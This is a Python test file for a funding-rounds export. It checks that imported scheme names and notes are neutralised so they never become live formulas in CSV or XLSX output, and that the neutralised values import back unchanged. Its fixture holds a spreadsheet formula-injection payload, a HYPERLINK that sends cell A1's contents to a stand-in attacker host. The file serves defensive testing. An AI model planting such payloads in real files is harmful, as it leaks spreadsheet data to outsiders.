"""Files out are safe to open: an imported scheme name or note never becomes a live formula in the rounds export."""

import csv
import io

from openpyxl import load_workbook

from research.domain.roles import Role
from research.domain.round_import import guess_mapping
from research.export.rounds_table import to_csv, to_xlsx
from research.services.rounds import calendar as rounds
from research.services.rounds.files import read_round_file
from research.services.rounds.imports import import_rounds
from tests.integration.rounds_helpers import add_funders_and_clusters

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
FILE = f'''Funder,Scheme,Closes,Pool,Notes
Marsden Fund,"{LINK.replace('"', '""')}",2027-02-20 12:00,360000,@SUM(1+1)
'''


def test_rounds_exports_neutralise_formulas(uow, make_actor):
    manager = make_actor(Role.MANAGER)
    add_funders_and_clusters(uow, manager)
    table = read_round_file(FILE.encode(), "rounds.csv")
    assert import_rounds(uow, manager, table, guess_mapping(list(table.headers))).written
    listed = rounds.list_rounds(uow, manager)
    [row] = list(csv.DictReader(io.StringIO(to_csv(listed).decode("utf-8-sig"), newline="")))
    assert row["Scheme"] == "'" + LINK and row["Notes"] == "'@SUM(1+1)" and row["Pool"] == "360000.00"
    sheet = load_workbook(io.BytesIO(to_xlsx(listed)))["Rounds"]
    cells = {sheet.cell(1, c).value: sheet.cell(2, c) for c in range(1, sheet.max_column + 1)}
    assert (cells["Scheme"].data_type, cells["Scheme"].value) == ("s", LINK)
    assert (cells["Notes"].data_type, cells["Notes"].value) == ("s", "@SUM(1+1)")
    assert cells["Pool"].data_type == "n"


def test_neutralised_rounds_export_imports_back_unchanged(uow, make_actor):
    manager = make_actor(Role.MANAGER)
    add_funders_and_clusters(uow, manager)
    table = read_round_file(FILE.encode(), "rounds.csv")
    import_rounds(uow, manager, table, guess_mapping(list(table.headers)))
    before = rounds.list_rounds(uow, manager)
    for data, name in ((to_csv(before), "export.csv"), (to_xlsx(before), "export.xlsx")):
        again = read_round_file(data, name)
        report = import_rounds(uow, manager, again, guess_mapping(list(again.headers)))
        assert (report.to_create, report.to_update) == (0, 1), report.problems
        after = rounds.list_rounds(uow, manager)
        assert after["scheme"].tolist() == [LINK] and after["notes"].tolist() == ["@SUM(1+1)"]
